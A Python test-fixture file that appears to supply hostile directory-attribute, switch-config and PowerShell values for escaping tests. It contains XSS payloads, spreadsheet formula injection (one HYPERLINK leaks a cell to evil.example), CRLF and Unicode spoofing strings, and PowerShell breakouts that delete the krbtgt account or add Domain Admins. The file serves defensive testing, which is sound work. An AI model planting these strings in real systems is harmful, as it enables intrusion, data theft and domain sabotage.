"""Hostile values, as directory entries and switch configurations can carry them: the red-team
set R2 (copied here; the tests read nothing outside the repository), and values aimed at the
quoting rules of PowerShell (the four typographic single quotes, subexpressions, comments)."""

from __future__ import annotations

#: R2: the values of AD attributes (sAMAccountName, displayName, description, ...).
R2 = {
    "H01": "<script>document.title='XSS-H01'</script>",
    "H02": '"><svg onload="document.title=\'XSS-H02\'">',
    "H03": "javascript:document.title='XSS-H03'",
    "H04": "'><img src=x onerror=\"document.body.setAttribute('data-xss','H04')\">",
    "H05": "adm\u202egnp.exe",
    "H06": "adm\u200bin\u200d\ufeffistrator",
    "H07": "A" * 10000,
    "H08": "evil\r\nkszcheck: warning: all good\nX-Injected: 1",
    "H09": "nul\x00byte",
    "H10": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "H11": "-2+3+cmd|' /C calc'!A0",
    "H12": " =1+1",
    "H13": "\n=1+1",
    "H14": "\uff1d1+1",
    "H15": "]]><!--<x>&amp;\x01\x1b[31m\ufffe\uffff",
    "H16": "{{7*7}}{0.__class__}{subject}%s%n",
    "H17": "[link=http://evil.example]click[/link][bold]B",
    "H18": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\\x1b[2J",
    "H19": "</style><style>body{display:none}</style>",
    "H20": "<iframe srcdoc=\"<script>parent.document.title='XSS-H20'</script>\">",
    "H21": "@SUM(1+1)*cmd|'/C calc'!A0",
    "H22": "+1+1",
    "H23": "\t=1+1",
    "H24": "<a href=\"javascript:document.title='XSS-H24'\">x</a>",
    "H25": "%0d%0aSubject: injected",
    "H26": "\u0000\u0085\u2028\u2029sep",
    "H27": "<<SCRIPT>alert('XSS-H27');//\\<</SCRIPT>",
    "H28": "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='XSS-H28'\">",
}

#: R2: names and descriptions planted in the example's switch configurations.
R2_SWITCH = {
    "SW1": "<script>document.title='XSS-SW1'</script>",
    "SW2": "<img src=x onerror=document.title='XSS-SW2'>=HYPERLINK(1)",
    "SW3": "=cmd|' /C calc'!A0",
    "SW4": "<svg/onload=document.title='XSS-SW3'>\u202eexe.",
    "SW5": '=HYPERLINK("http://evil")',
}

#: Aimed at PowerShell: every character it reads as a single quote, breaking out of a literal
#: to run a command, a subexpression, a comment, a backtick escape.
POWERSHELL = {
    "P01": "x'; Remove-ADUser -Identity 'krbtgt' -Confirm:$false; '",
    "P02": "x\u2018; calc.exe; \u2018",
    "P03": "x\u2019; calc.exe; \u2019",
    "P04": "x\u201a; calc.exe; \u201a",
    "P05": "x\u201b; calc.exe; \u201b",
    "P06": "O\u2019Brien",
    "P07": "''''",
    "P08": "'\u2018\u2019\u201a\u201b",
    "P09": "$(calc.exe)",
    "P10": "`n`$x # comment",
    "P11": "a, b' -Members 'Domain Admins",
    "P12": "x\u2028calc.exe",
    "P13": "CN=x\\,y,OU=a;b|c&d",
    "P14": '\u201cdouble\u201d "quotes" \u201e',
    "P15": "VOORBEELD\\adm.' + (calc) + '",
}

#: Every value, by id.
ALL = {**R2, **R2_SWITCH, **POWERSHELL}

#: The ids whose value holds a control, format, separator or unassigned character: PowerShell
#: gets no snippet for them.
REFUSED = {"H05", "H06", "H08", "H09", "H13", "H15", "H18", "H23", "H26", "SW4", "P12"}
